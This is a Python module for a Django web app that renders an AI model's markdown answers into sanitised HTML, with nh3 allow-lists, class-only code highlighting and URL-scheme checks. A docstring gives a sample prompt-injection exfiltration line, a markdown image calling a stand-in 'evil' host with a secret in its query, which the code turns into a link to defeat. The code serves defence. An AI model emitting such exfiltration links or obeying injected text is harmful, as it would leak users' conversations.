"""Model output to HTML: markdown with raw HTML off, then sanitised by nh3. Output is untrusted."""

from urllib.parse import urlsplit

import nh3
from django.utils.html import escape
from django.utils.safestring import SafeString, mark_safe
from markdown_it import MarkdownIt
from pygments import highlight as pygments_highlight
from pygments.formatters import HtmlFormatter
from pygments.lexers import get_lexer_by_name
from pygments.token import STANDARD_TYPES
from pygments.util import ClassNotFound

# Beyond this a code block is shown plain: highlighting is CPU spent on every final render.
MAX_HIGHLIGHT_CHARS = 50_000
# Pygments' short token classes ("k", "s2", ...); static/highlight.css colours them.
TOKEN_CLASSES = {name for name in STANDARD_TYPES.values() if name}
_formatter = HtmlFormatter(nowrap=True)


def _highlight(code: str, lang: str, attrs: str) -> str:
    """A fenced block with a known language, coloured with classes only (the CSP forbids
    inline styles); "" lets markdown-it render it plain. The result still goes through nh3."""
    if not lang or len(code) > MAX_HIGHLIGHT_CHARS:
        return ""
    try:
        lexer = get_lexer_by_name(lang.lower()[:40])
    except ClassNotFound:
        return ""
    body = pygments_highlight(code, lexer, _formatter)
    return f'<pre class="highlight"><code class="language-{escape(lang)}">{body}</code></pre>'


# "commonmark" with html=False: any <script> or <img onerror> in the source stays text.
_markdown = MarkdownIt(
    "commonmark",
    {"html": False, "linkify": False, "typographer": False, "highlight": _highlight},
)
_markdown.enable(["table", "strikethrough"])


def _image_as_link(renderer, tokens, idx, options, env) -> str:
    """An image in an answer becomes a link to it: the browser fetching it by itself would let
    a prompt-injected answer (`![x](https://evil/?secret=...)`) send the conversation away."""
    token = tokens[idx]
    alt = renderer.renderInlineAsText(token.children or [], options, env)
    href = escape(token.attrGet("src") or "")
    return f'<a href="{href}" class="image-link">Image: {escape(alt or "untitled")}</a>'


_markdown.add_render_rule("image", _image_as_link)

ALLOWED_TAGS = {
    "p",
    "br",
    "hr",
    "strong",
    "em",
    "del",
    "s",
    "code",
    "pre",
    "blockquote",
    "ul",
    "ol",
    "li",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "a",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "span",
    "sup",
    "sub",
}
ALLOWED_ATTRIBUTES = {
    "a": {"href", "title"},
    "th": {"align"},
    "td": {"align"},
    "ol": {"start"},
}


URL_SCHEMES = {"http", "https", "mailto"}


def render_markdown(text: str) -> SafeString:
    """Markdown to sanitised HTML; links open safely, only http(s)/mailto URLs survive."""
    return sanitize(_markdown.render(text))


def sanitize(html: str) -> SafeString:
    """Any HTML to the small allowed set: no scripts, no event handlers, no htmx or ws
    attributes (they would act in our page), no images, no URL but http(s) and mailto."""
    clean = nh3.clean(
        html,
        tags=ALLOWED_TAGS,
        attributes=ALLOWED_ATTRIBUTES,
        url_schemes=URL_SCHEMES,
        link_rel="noopener noreferrer nofollow",
        set_tag_attribute_values={"a": {"target": "_blank"}},
        allowed_classes={
            "code": {f"language-{lang}" for lang in _LANGUAGES},
            "a": {"image-link"},
            "pre": {"highlight"},
            "span": TOKEN_CLASSES,
        },
    )
    return mark_safe(clean)  # noqa: S308 - nh3 output is safe by construction


def web_url(url: object) -> str | None:
    """The URL if it is an absolute http(s) one (citations, sources), else None: a stored
    `javascript:` or `data:` link must never reach an href."""
    if not isinstance(url, str) or len(url) > 2048:
        return None
    try:
        parts = urlsplit(url.strip())
    except ValueError:
        return None
    if parts.scheme.lower() not in ("http", "https") or not parts.netloc:
        return None
    return url.strip()


def render_plain(text: str) -> SafeString:
    """Escaped text for streaming and user messages (CSS keeps the line breaks)."""
    return escape(text)


_LANGUAGES = {
    "python",
    "py",
    "javascript",
    "js",
    "typescript",
    "ts",
    "json",
    "bash",
    "sh",
    "shell",
    "html",
    "css",
    "sql",
    "yaml",
    "toml",
    "go",
    "rust",
    "java",
    "c",
    "cpp",
    "csharp",
    "ruby",
    "php",
    "kotlin",
    "swift",
    "text",
    "diff",
    "xml",
    "markdown",
    "md",
}
